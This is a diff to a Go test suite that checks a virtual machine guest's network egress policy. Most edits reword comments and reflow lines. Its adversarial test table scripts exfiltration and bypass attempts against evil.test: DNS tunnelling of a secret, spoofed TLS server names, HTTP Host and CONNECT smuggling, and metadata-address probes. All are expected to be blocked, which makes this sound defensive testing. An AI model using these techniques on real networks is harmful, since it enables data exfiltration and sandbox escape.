@@ -16,9 +16,9 @@ import (
 )
 
 // attempts is a program for guests. Each line of its table is a name, a way, a target, how many seconds to wait, and
-// what is sent: bytes in hexadecimal, in pieces that leave one after the other. It prints names with what came back: "here", "-" for
-// nothing, and addresses or texts for questions to the guest's resolver. All attempts go on at once, except
-// datagrams, which leave in their order.
+// the data to send: bytes in hexadecimal, in pieces that are sent one after the other. It prints each name with the
+// result: "here", "-" for nothing, and addresses or texts for questions to the guest's resolver. All attempts run
+// concurrently, except datagrams, which are sent in order.
 const attempts = `cat > /tmp/attempts.py <<'END'
 import socket, struct, sys, threading
 def tcp(target, patience, pieces, family=socket.AF_INET):
@@ -83,17 +83,17 @@ for t in all:
 END
 python3 /tmp/attempts.py`
 
-// row is one attempt of a guest and what may come back: "here", an address, or "-".
+// row is one attempt of a guest and the expected result: "here", an address, or "-".
 type row struct{ name, way, target, sent, want string }
 
-// hello gives the first bytes of a TLS connection that names a server, or none.
+// hello returns the first bytes of a TLS connection that names a server, or none.
 func hello(t *testing.T, server string) []byte {
 	t.Helper()
 	ours, theirs := net.Pipe()
 	defer theirs.Close()
 	go func() {
 		defer ours.Close()
-		_ = tls.Client(ours, &tls.Config{ServerName: server, InsecureSkipVerify: true}).Handshake() // nobody answers
+		_ = tls.Client(ours, &tls.Config{ServerName: server, InsecureSkipVerify: true}).Handshake() // no server
 	}()
 	b := make([]byte, 16<<10)
 	n, err := theirs.Read(b)
@@ -103,7 +103,7 @@ func hello(t *testing.T, server string) []byte {
 	return b[:n]
 }
 
-// encrypted adds an encrypted ClientHello (extension 0xfe0d) to a hello: the outer name says nothing of the inner.
+// encrypted adds an encrypted ClientHello (extension 0xfe0d) to a hello: the outer name hides the inner one.
 func encrypted(b []byte) []byte {
 	body := append([]byte{0, 0, 1, 0, 1, 7, 0, 32}, make([]byte, 32)...)
 	body = append(append(body, 0, 128), make([]byte, 128)...)
@@ -132,8 +132,8 @@ func pieces(list ...[]byte) string {
 
 func words(s string) string { return pieces([]byte(s)) }
 
-// always are attempts that fail whatever the policy says: what is not the public internet, mail, IPv6, foreign
-// sources, the host under each of its addresses, and another guest.
+// always returns attempts that fail under every policy: addresses that are not the public internet, mail, IPv6,
+// foreign sources, the host under each of its addresses, and another guest.
 func always(host, neighbour string) []row {
 	rows := []row{
 		{"gateway", "tcp", "192.168.241.1:7700", words("x"), "-"},
@@ -156,8 +156,8 @@ func always(host, neighbour string) []row {
 	return rows
 }
 
-// TestAdversary has a guest that is root try to get out: under the policy that allows everything, under one whose
-// entries name what is never reached, and under one that allows two names.
+// TestAdversary lets a guest with root try to get out: under the policy that allows everything, under one whose
+// entries name addresses that are never reachable, and under one that allows two names.
 func TestAdversary(t *testing.T) {
 	in := newInternet(t)
 	l := host(t)
@@ -169,7 +169,8 @@ func TestAdversary(t *testing.T) {
 	l.run(
 		t,
 		a.ID,
-		`ip address add fd00:1::2/64 dev eth0; ip route add default via fd00:1::1; ip address add 198.100.1.77/32 dev eth0; true`,
+		"ip address add fd00:1::2/64 dev eth0; ip route add default via fd00:1::1; "+
+			"ip address add 198.100.1.77/32 dev eth0; true",
 	)
 	ends := strings.Split(a.GuestIP, ".")
 	var last int
@@ -187,15 +188,19 @@ func TestAdversary(t *testing.T) {
 		{"open", hostapi.Egress{}, append([]row{
 			{"public", "tcp", sharedSite + ":80", words("x"), "here"},
 			{"any-name", "dns", "evil.test/1", "", sharedSite},
-			{"inside-name", "dns", "inside.good.test/1", "", "169.254.169.254"}, // which is closed
+			{"inside-name", "dns", "inside.good.test/1", "", "169.254.169.254"}, // a closed address
 		}, never...)},
-		{"listed", hostapi.Egress{Allow: []string{"10.0.0.0/8", "192.168.0.0/16", "169.254.0.0/16", "172.16.0.0/12", "100.64.0.0/10",
-			"198.18.0.0/15", "203.0.113.0/24", "198.100.1.2", "inside.good.test", sharedSite, b.GuestIP}, DenyOthers: true}, append([]row{
+		{"listed", hostapi.Egress{Allow: []string{
+			"10.0.0.0/8", "192.168.0.0/16", "169.254.0.0/16", "172.16.0.0/12", "100.64.0.0/10", "198.18.0.0/15",
+			"203.0.113.0/24", "198.100.1.2", "inside.good.test", sharedSite, b.GuestIP,
+		}, DenyOthers: true}, append([]row{
 			{"allowed", "tcp", sharedSite + ":80", words("x"), "here"},
 			{"inside-name", "dns", "inside.good.test/1", "", "-"},
 			{"not-listed", "tcp", otherSite + ":80", words("x"), "-"},
 		}, never...)},
-		{"names", hostapi.Egress{Allow: []string{"good.test", "*.wild.test", "inside.good.test"}, DenyOthers: true}, append([]row{
+		{"names", hostapi.Egress{
+			Allow: []string{"good.test", "*.wild.test", "inside.good.test"}, DenyOthers: true,
+		}, append([]row{
 			{"good", "dns", "good.test/1", "", sharedSite},
 			{"good-by-tcp", "dnstcp", "good.test/1", "", sharedSite},
 			{"evil", "dns", "evil.test/1", "", "-"},
@@ -203,7 +208,7 @@ func TestAdversary(t *testing.T) {
 			{"tunnel-text", "dns", secret + ".evil.test/16", "", "-"},
 			{"tunnel-by-tcp", "dnstcp", secret + ".evil.test/1", "", "-"},
 			{"tunnel-null", "dns", secret + ".evil.test/10", "", "-"},
-			{"text-of-good", "dns", "good.test/16", "", "here"}, // whose owner is trusted
+			{"text-of-good", "dns", "good.test/16", "", "here"}, // the name's owner is trusted
 			{"inside-name", "dns", "inside.good.test/1", "", "-"},
 			{"below-good", "dns", secret + ".good.test/1", "", "-"},
 			{"disguise", "dns", "good.test.evil.test/1", "", "-"},
@@ -216,7 +221,8 @@ func TestAdversary(t *testing.T) {
 			{"tls", "tcp", sharedSite + ":443", pieces(good), "here"},
 			{"tls-split", "tcp", sharedSite + ":443", pieces(good[:3], good[3:50], good[50:]), "here"},
 			{"http", "tcp", sharedSite + ":80", words("GET / HTTP/1.1\r\nHost: good.test\r\n\r\n"), "here"},
-			{"other-port", "tcp", sharedSite + ":7777", words("\x00\x01\x02\x03\x04\x05\x06\x07"), "here"}, // of good.test, for a protocol without names
+			// The address is of good.test, and the protocol has no names.
+			{"other-port", "tcp", sharedSite + ":7777", words("\x00\x01\x02\x03\x04\x05\x06\x07"), "here"},
 			{"spoofed-name", "tcp", sharedSite + ":443", pieces(evil), "-"},
 			{"spoofed-name-split", "tcp", sharedSite + ":443", pieces(evil[:6], evil[6:]), "-"},
 			{"spoofed-name-elsewhere", "tcp", sharedSite + ":8443", pieces(evil), "-"},
@@ -227,8 +233,10 @@ func TestAdversary(t *testing.T) {
 			{"other-address", "tcp", otherSite + ":443", pieces(good), "-"},
 			{"http-host", "tcp", sharedSite + ":80", words("GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"), "-"},
 			{"http-no-host", "tcp", sharedSite + ":80", words("GET / HTTP/1.0\r\n\r\n"), "-"},
-			{"http-two-hosts", "tcp", sharedSite + ":80", words("GET / HTTP/1.1\r\nHost: good.test\r\nHost: evil.test\r\n\r\n"), "-"},
-			{"http-connect", "tcp", sharedSite + ":80", words("CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"), "-"},
+			{"http-two-hosts", "tcp", sharedSite + ":80",
+				words("GET / HTTP/1.1\r\nHost: good.test\r\nHost: evil.test\r\n\r\n"), "-"},
+			{"http-connect", "tcp", sharedSite + ":80",
+				words("CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n"), "-"},
 			{"resolver-of-good", "udp", sharedSite + ":53", words("resolver of good"), "-"},
 			{"resolver-tcp", "tcp", sharedSite + ":53", words("x"), "-"},
 			{"dns-over-tls", "tcp", sharedSite + ":853", pieces(good), "-"},
@@ -243,24 +251,24 @@ func TestAdversary(t *testing.T) {
 		try(t, l, a.ID, phase.name, phase.rows)
 	}
 	wait(t, "the datagram to an allowed address arrives", func() bool {
-		_, got := in.told()
+		_, got := in.received()
 		return slices.Contains(got, "last datagram")
 	})
-	asked, datagrams := in.told()
+	asked, datagrams := in.received()
 	if len(datagrams) != 1 {
-		t.Errorf("datagrams that left: %q, want the last alone", datagrams)
+		t.Errorf("datagrams that arrived = %q, want the last alone", datagrams)
 	}
 	for _, q := range asked {
 		if !slices.Contains(
 			[]string{"good.test. a", "good.test. txt", "evil.test. a", "inside.good.test. a"},
 			strings.ToLower(q),
 		) {
-			t.Errorf("the resolver was asked for %s", q)
+			t.Errorf("the resolver got a query for %s, want none", q)
 		}
 	}
 }
 
-// try has a guest make all attempts of a phase and compares what came back.
+// try lets a guest make all attempts of a phase and compares the results.
 func try(t *testing.T, l *lab, id hostapi.MachineID, phase string, rows []row) {
 	t.Helper()
 	var table strings.Builder
@@ -269,7 +277,7 @@ func try(t *testing.T, l *lab, id hostapi.MachineID, phase string, rows []row) {
 		if sent == "" {
 			sent = "00"
 		}
-		patience := 2 // seconds, for what must not happen
+		patience := 2 // seconds, for attempts that must fail
 		if r.want != "-" {
 			patience = 60
 		}
@@ -282,7 +290,7 @@ func try(t *testing.T, l *lab, id hostapi.MachineID, phase string, rows []row) {
 	}
 	for _, r := range rows {
 		if got[r.name] != r.want {
-			t.Errorf("%s: %s: %s to %s gave %q, want %q", phase, r.name, r.way, r.target, got[r.name], r.want)
+			t.Errorf("%s: %s: %s to %s = %q, want %q", phase, r.name, r.way, r.target, got[r.name], r.want)
 		}
 	}
 }
